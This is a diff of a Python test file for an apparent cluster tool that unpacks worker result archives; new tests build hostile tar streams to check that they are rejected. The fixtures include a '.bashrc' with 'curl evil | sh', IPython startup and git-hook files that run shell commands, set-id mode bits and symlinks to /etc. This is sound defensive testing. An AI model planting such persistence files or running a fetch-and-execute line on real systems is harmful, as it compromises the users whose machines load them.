@@ -107,7 +107,7 @@ def test_the_host_keeps_what_the_worker_wrote_and_sends_it_once(host, tmp_path, 
 
     session = tmp_path / "session"
     session.mkdir()
-    arrival = Arrival("s1-0", str(session))
+    arrival = Arrival("s1-0", str(session), ("outputs", "model.keras"))
     Homecoming().unpack([stream], arrival)
     assert (session / "outputs" / "model.keras").read_text() == "new model"
     assert (session / "outputs" / "logs" / "epoch-1.txt").read_text() == "loss 0.5"
@@ -129,7 +129,7 @@ def test_a_collected_link_is_followed_inside_the_folder_but_never_out_of_it(host
     keep(str(host), "s1-1", ["latest", "etc"], started)
     stream, report = sent("s1-1")
     assert "etc -> /etc" in report
-    arrival = Arrival("s1-1", str(tmp_path))
+    arrival = Arrival("s1-1", str(tmp_path), ("latest", "etc"))
     Homecoming().unpack([stream], arrival)
     assert (tmp_path / "latest" / "weights.bin").read_text() == "w7" and not (tmp_path / "latest").is_symlink()
 
@@ -157,15 +157,14 @@ def test_two_workers_files_of_one_name_are_both_kept_and_said_once(tmp_path, cap
                 info = tarfile.TarInfo(name)
                 info.size, info.mtime = len(text), time.time()
                 tar.addfile(info, io.BytesIO(text.encode()))
-        arrival = Arrival(worker, str(tmp_path))
+        arrival = Arrival(worker, str(tmp_path), ("outputs",))
         home.unpack([buffer.getvalue()], arrival)
         with caplog.at_level(logging.WARNING, logger="cmlcluster.backends.results_home"):
             arrival.say({})
         return arrival
 
-    write(tmp_path / "outputs" / "old.txt", "from yesterday's run")
-    arrive("s2-0", {"outputs/metrics.json": "rank 0", "outputs/same.txt": "same", "outputs/old.txt": "new"})
-    assert not caplog.records  # a file from before the session is replaced, as on a shared disk
+    arrive("s2-0", {"outputs/metrics.json": "rank 0", "outputs/same.txt": "same"})
+    assert not caplog.records
     arrival = arrive("s2-1", {"outputs/metrics.json": "rank 1", "outputs/same.txt": "same"})
     assert (tmp_path / "outputs" / "metrics.json").read_text() == "rank 1"  # the later one keeps the name
     assert (tmp_path / "outputs" / "metrics.json.s2-0").read_text() == "rank 0"  # the earlier is kept beside it
@@ -189,7 +188,7 @@ def test_names_that_would_leave_the_folder_and_links_are_never_written(tmp_path)
         link.type, link.linkname = tarfile.SYMTYPE, "/etc"
         tar.addfile(link)
     (tmp_path / "session").mkdir()
-    arrival = Arrival("s3-0", str(tmp_path / "session"))
+    arrival = Arrival("s3-0", str(tmp_path / "session"), (".",))
     Homecoming().unpack([buffer.getvalue()], arrival)
     assert arrival.files == 0 and len(arrival.behind) == 4, arrival.behind
     assert os.listdir(tmp_path / "session") == [] and sorted(os.listdir(tmp_path)) == ["session"]
@@ -226,3 +225,178 @@ def test_the_magics_collect_option_reaches_the_run(framework, monkeypatch):
     assert called["collect"] == ["outputs", "model.keras"]
     options.run(parser.parse_args([]), "train.py", [])
     assert called["collect"] is None
+
+
+# ---------------------------------------------------------------- a hostile stream, at the session's end
+# What a worker's end sends is a worker's word (its program, or whoever took its host, wrote it): these
+# streams are crafted as such a host or agent could send them, and the session's end alone decides.
+
+
+def stream(*members) -> bytes:
+    """A tar stream of (name, contents, mode) files, or (name, None, link target) symbolic links."""
+    import tarfile
+
+    buffer = io.BytesIO()
+    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as tar:
+        for name, data, mode in members:
+            info = tarfile.TarInfo(name)
+            info.mtime = time.time()
+            if data is None:
+                info.type, info.linkname = tarfile.SYMTYPE, mode
+                tar.addfile(info)
+            else:
+                info.size, info.mode = len(data), mode
+                tar.addfile(info, io.BytesIO(data))
+    return buffer.getvalue()
+
+
+HOSTILE = (
+    (".ipython/profile_default/startup/00-x.py", b"import os; os.system('touch /tmp/pwned')", 0o644),
+    (".git/hooks/post-checkout", b"#!/bin/sh\ntouch /tmp/pwned\n", 0o755),
+    ("train.py", b"print('not yours')", 0o644),
+    (".bashrc", b"curl evil | sh", 0o644),
+)
+
+
+@pytest.fixture
+def session_folder(tmp_path):
+    folder = tmp_path / "session"
+    folder.mkdir()
+    write(folder / "train.py", "print('train')")
+    return folder
+
+
+def unpacked(folder, collect, data, caplog, worker="s9-0", home=None):
+    """Unpack `data` as worker `worker` of a run with these collect= paths; (arrival, its warnings)."""
+    arrival = Arrival(worker, str(folder), results.check_collect(collect))
+    (home or Homecoming()).unpack([data], arrival)
+    caplog.clear()
+    with caplog.at_level(logging.WARNING, logger="cmlcluster.backends.results_home"):
+        arrival.say({})
+    return arrival, [r.getMessage() for r in caplog.records]
+
+
+def files_in(folder) -> list[str]:
+    return sorted(str(p.relative_to(folder)) for p in folder.rglob("*") if not p.is_dir() or p.is_symlink())
+
+
+def test_members_outside_the_collect_paths_are_dropped_and_named_in_one_warning(session_folder, caplog):
+    extra = tuple((f"notes/{i}.txt", b"x", 0o644) for i in range(6))
+    data = stream(*HOSTILE, ("outputs/model.txt", b"trained", 0o644), *extra)
+    arrival, said = unpacked(session_folder, ["outputs"], data, caplog)
+    assert files_in(session_folder) == ["outputs/model.txt", "train.py"]
+    assert (session_folder / "train.py").read_text() == "print('train')"
+    assert (arrival.files, arrival.not_asked_count) == (1, 10)
+    [warning] = said
+    assert "it sent 10 files that collect=['outputs'] does not ask for, dropped: " in warning
+    assert ".ipython/profile_default/startup/00-x.py, .git/hooks/post-checkout, train.py, .bashrc" in warning
+    assert "and 5 more" in warning
+
+
+def test_dot_asks_for_all_but_the_hidden_top_level_entries_which_are_asked_for_by_name(session_folder, caplog):
+    data = stream(*HOSTILE[:2], (".bashrc", b"x", 0o644), ("src/.keep", b"", 0o644), ("a/.zattrs", b"{}", 0o644))
+    arrival, said = unpacked(session_folder, ["."], data, caplog)
+    assert files_in(session_folder) == ["a/.zattrs", "src/.keep", "train.py"]
+    assert arrival.not_asked_count == 3 and '"." leaves hidden top-level entries such as .git unless named' in said[0]
+    assert results.check_collect([".", ".config", "outputs"]) == (".", ".config")
+    unpacked(session_folder, [".", ".config"], stream((".config/app.toml", b"x", 0o644)), caplog)
+    assert (session_folder / ".config" / "app.toml").read_text() == "x"
+
+
+def test_execute_bits_only_where_the_worker_had_them_and_never_set_id_bits(session_folder, caplog):
+    data = stream(
+        ("outputs/run.sh", b"#!/bin/sh\n", 0o4755),
+        ("outputs/all.sh", b"#!/bin/sh\n", 0o7777),
+        ("outputs/data.csv", b"1,2\n", 0o666),
+        ("outputs/own.bin", b"\0", 0o700),
+        (".git/hooks/post-checkout", b"#!/bin/sh\n", 0o755),
+    )
+    unpacked(session_folder, ["outputs"], data, caplog)
+
+    def mode(name):
+        return os.stat(session_folder / "outputs" / name).st_mode & 0o7777
+
+    assert (mode("run.sh"), mode("all.sh"), mode("data.csv"), mode("own.bin")) == (0o755, 0o755, 0o644, 0o700)
+    assert not (session_folder / ".git").exists()
+
+
+def test_a_file_that_was_here_before_is_kept_and_the_workers_is_written_beside_it(session_folder, caplog):
+    write(session_folder / "outputs" / "same.txt", "same")
+    os.symlink("run-7", session_folder / "outputs" / "latest")  # the user's own link, named by the worker
+    data = stream(
+        ("train.py", b"print('not yours')", 0o755),
+        ("outputs/same.txt", b"same", 0o644),  # identical: kept once, nothing said
+        ("outputs/latest", b"a file now", 0o644),
+    )
+    arrival, [warning] = unpacked(session_folder, ["."], data, caplog)
+    assert (session_folder / "train.py").read_text() == "print('train')"
+    assert (session_folder / "train.py.s9-0").read_text() == "print('not yours')"
+    assert os.readlink(session_folder / "outputs" / "latest") == "run-7"
+    assert (session_folder / "outputs" / "latest.s9-0").read_text() == "a file now"
+    assert files_in(session_folder / "outputs") == ["latest", "latest.s9-0", "same.txt"]
+    assert arrival.beside == [("train.py", "train.py.s9-0"), ("outputs/latest", "outputs/latest.s9-0")]
+    assert "these were here before and are kept as they were, the worker's written beside them" in warning
+    assert "train.py (the worker's is train.py.s9-0)" in warning
+
+    # A worker's file the user changed since it came is the user's: the next worker's goes beside it.
+    home = Homecoming()
+    unpacked(session_folder, ["outputs"], stream(("outputs/m.txt", b"1", 0o644)), caplog, "s9-1", home)
+    write(session_folder / "outputs" / "m.txt", "edited by the user")
+    unpacked(session_folder, ["outputs"], stream(("outputs/m.txt", b"2", 0o644)), caplog, "s9-2", home)
+    assert (session_folder / "outputs" / "m.txt").read_text() == "edited by the user"
+    assert (session_folder / "outputs" / "m.txt.s9-2").read_text() == "2"
+
+
+def test_nothing_is_written_through_a_link_the_users_own_included(session_folder, tmp_path, caplog):
+    outside = tmp_path / "outside"
+    (outside / "deep").mkdir(parents=True)
+    os.symlink(outside, session_folder / "outputs")  # the user's own link, out of the folder
+    (session_folder / "inside").mkdir()
+    os.symlink("../outputs", session_folder / "inside" / "up")
+    data = stream(
+        ("outputs/model.txt", b"x", 0o644),
+        ("outputs/deep/x.py", b"x", 0o644),
+        ("inside/up/y.py", b"x", 0o644),
+        ("outputs2/link", None, "/etc"),
+        ("outputs2/then/z", b"x", 0o644),
+    )
+    _, [warning] = unpacked(session_folder, ["outputs", "inside", "outputs2"], data, caplog)
+    assert list(outside.rglob("*")) == [outside / "deep"]
+    assert files_in(session_folder) == ["inside/up", "outputs", "outputs2/then/z", "train.py"]
+    assert "outputs/model.txt (outputs is a link here, and nothing is written through one)" in warning
+    assert "inside/up/y.py (inside/up is a link here" in warning
+    assert "outputs2/link (a link, never followed out of a folder)" in warning
+
+
+def test_the_file_count_cap_leaves_the_rest_behind_and_says_so(session_folder, monkeypatch, caplog):
+    monkeypatch.setenv("CMLCLUSTER_COLLECT_CAP_FILES", "1000")
+    data = stream(*((f"outputs/f{i:04}", b"", 0o644) for i in range(2000)))
+    arrival, [warning] = unpacked(session_folder, ["outputs"], data, caplog)
+    assert arrival.files == 1000 and len(os.listdir(session_folder / "outputs")) == 1000
+    assert "past the 1000-file cap (CMLCLUSTER_COLLECT_CAP_FILES): the rest" in warning
+
+
+def test_the_host_sends_no_more_files_than_the_cap(host, monkeypatch):
+    started = time.time()
+    for i in range(5):
+        write(host / "out" / f"f{i}", "")
+    keep(str(host), "s9-3", ["out"], started)
+    out, err = io.BytesIO(), io.StringIO()
+    assert send("s9-3", results.cap_bytes(), out, err, 3) == 0
+    assert '"files": 3' in err.getvalue() and '"over_files_cap": ["out/f3", "out/f4"]' in err.getvalue()
+
+
+def test_a_flood_of_entries_is_read_no_further_than_the_cap_allows(session_folder, monkeypatch, caplog):
+    monkeypatch.setenv("CMLCLUSTER_COLLECT_CAP_FILES", "10")
+    data = stream(*((f"elsewhere/{i}", b"", 0o644) for i in range(2000)))
+    read = []
+
+    def chunks():
+        for i in range(0, len(data), 512):
+            read.append(i)
+            yield data[i : i + 512]
+
+    arrival = Arrival("s9-4", str(session_folder), ("outputs",))
+    Homecoming().unpack(chunks(), arrival)
+    assert arrival.not_asked_count == 40 and len(read) < 200  # of 8000 blocks
+    assert arrival.behind == ["the rest (the stream held more than 40 entries)"]
